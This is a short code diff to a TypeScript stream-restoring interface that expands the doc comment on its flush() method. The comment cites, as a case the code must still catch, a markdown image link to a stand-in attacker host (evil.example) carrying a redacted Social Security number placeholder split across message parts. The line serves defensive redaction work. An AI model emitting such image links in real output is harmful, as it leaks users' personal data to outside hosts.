@@ -10,7 +10,12 @@ import { createRestoreUrlContext } from "./restore-url-context.ts";
 export interface StreamRestorer {
   /** Restores `chunk` and returns all of it that is safe to emit now. */
   push(chunk: string): string;
-  /** Returns whatever is still held back; call once at the end of the stream. */
+  /**
+   * Returns whatever is still held back; call at the end of the stream. It may also end one
+   * part of a longer text (a content block of a message): no placeholder spans the call,
+   * while the URL context carries on into the next `push`, so a link that a vendor splits
+   * over parts (`![](https://evil.example/?q=` | `[US_SSN_7QK2MX]` | `)`) is still seen.
+   */
   flush(): string;
   /** `push(chunk) + flush()`, without following the text after the last placeholder (nothing reads that context). */
   finish(chunk: string): string;
